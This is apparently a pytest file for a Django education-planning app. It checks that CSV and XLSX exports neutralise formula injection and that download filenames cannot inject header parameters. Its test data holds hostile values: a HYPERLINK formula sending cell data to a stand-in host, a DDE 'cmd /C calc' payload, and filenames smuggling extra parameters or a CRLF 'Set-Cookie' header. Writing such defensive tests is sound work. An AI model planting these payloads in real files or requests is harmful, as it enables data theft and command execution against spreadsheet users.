"""Formula payloads in every export and a hostile name in every download header (issue 22,
problems 4 and 9).

A name an officer types (an institution, a county) that starts with ``=`` must reach a workbook as
text, never as a live formula, and reach a CSV with the leading ``'`` that stops Excel from
evaluating it. A file name a user chose must not add a parameter to ``Content-Disposition``."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils.http import parse_header_parameters
from openpyxl import load_workbook

from eduplan.output import attachment, csv_bytes, write_records, xlsx_bytes

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
PAYLOADS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def _no_formulas(data: bytes) -> list[str]:
    """Every text value in the workbook; fails if any cell is a formula."""
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a live formula: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_fields(data: bytes) -> list[str]:
    return [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]


def _neutral(field: str) -> bool:
    """Excel will not evaluate it: a number, or text not starting like a formula."""
    try:
        float(field)
        return True
    except ValueError:
        return not field.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_export_writes_formula_text_as_text():
    rows = [{"name": p, "value": 1.5} for p in PAYLOADS]
    texts = _no_formulas(xlsx_bytes({"data": rows}))
    assert PAYLOAD in texts  # shown exactly as typed, never evaluated


def test_csv_exports_neutralise_formula_text(tmp_path):
    rows = [{"name": p, "value": -1.5} for p in PAYLOADS]
    fields = _csv_fields(csv_bytes(rows))
    assert all(_neutral(f) for f in fields), fields
    assert "'" + PAYLOAD in fields and "-1.5" in fields  # numbers stay numbers
    out = tmp_path / "cli.csv"
    write_records(rows, "csv", out)  # every command's --format csv
    assert all(_neutral(f) for f in _csv_fields(out.read_bytes()))


def test_notice_workbook_writes_formula_text_as_text():
    from eduplan.supervision import notices
    from tests.supervision.test_notices import data

    d = data()
    d.criticised[0]["county_name"] = PAYLOAD
    texts = _no_formulas(notices.build_notice_xlsx(d))
    assert PAYLOAD in texts


@pytest.mark.django_db
def test_drilldown_and_findings_exports_from_the_pages(client):
    from eduplan.accounts.actions import create_user_with_role
    from eduplan.registry import actions
    from eduplan.registry.choices import Role
    from tests.factories import mini_city

    m = mini_city()
    actions.update_fields(m.kg_a, {"name": PAYLOAD})
    actions.record_class(m.kg_a, school_year=2024, name="中一班", age_group="middle", boys=9, girls=9)
    for age in range(0, 18):
        for sex in ("M", "F"):
            actions.set_population(
                m.town_a, year=2024, age_min=age, age_max=age, sex=sex, basis="resident", count=5
            )
    create_user_with_role("ca", "pw-123456", Role.COUNTY_OFFICER, division=m.county_a)
    client.login(username="ca", password="pw-123456")
    url = "/office/indicators/preschool_ger/530402/2024/"
    as_csv = client.get(url, {"format": "csv", "by": "institution"})
    assert as_csv.status_code == 200
    fields = _csv_fields(as_csv.content)
    assert "'" + PAYLOAD in fields and all(_neutral(f) for f in fields)
    as_xlsx = client.get(url, {"format": "xlsx", "by": "institution"})
    assert PAYLOAD in _no_formulas(as_xlsx.content)
    findings = client.get("/office/findings/", {"format": "xlsx"})
    assert findings.status_code == 200
    _no_formulas(findings.content)


@pytest.mark.parametrize(
    "name",
    [
        'q"; filename=evil.html;.csv',
        "班级[2024].xlsx",
        'a\\"b.xlsx',
        "line\r\nSet-Cookie: x=1.csv",
    ],
)
def test_download_names_cannot_inject_header_parameters(name):
    response = attachment(b"data", name)
    header = response["Content-Disposition"]
    assert "\r" not in header and "\n" not in header
    kind, params = parse_header_parameters(header)
    assert kind == "attachment"
    assert set(params) <= {"filename", "filename*"}, params
    assert not params.get("filename", "").endswith(".html")
    shown = params.get("filename*") or params["filename"]
    assert shown.rsplit(".", 1)[-1] in ("csv", "xlsx")


@pytest.mark.django_db
def test_an_upload_named_to_inject_a_parameter_downloads_its_errors_safely(client, tmp_path):
    from django.contrib.auth.models import User

    from eduplan.intake.importer import import_file
    from tests.intake.helpers import full_city

    full_city()
    # A browser sends the name percent-escaped in the multipart header; it arrives whole.
    name = 'q"; filename=evil.html;.csv'
    path = tmp_path / "upload.csv"
    path.write_text("institution_code,school_year,name,age_group,boys,girls\nK1,2024,甲班,小班,多,3\n")
    user = User.objects.get(username="county_a")
    batch = import_file(path, kind="classes", user=user, file_name=name, source="web").batch
    assert batch is not None and batch.file_name == name
    client.login(username="county_a", password="pw-123456")
    header = client.get(f"/office/import/{batch.pk}/errors.xlsx")["Content-Disposition"]
    _, params = parse_header_parameters(header)
    assert set(params) <= {"filename", "filename*"}, header
    assert not params.get("filename", "").endswith(".html")
    assert (params.get("filename*") or params["filename"]).endswith("-errors.xlsx"), header
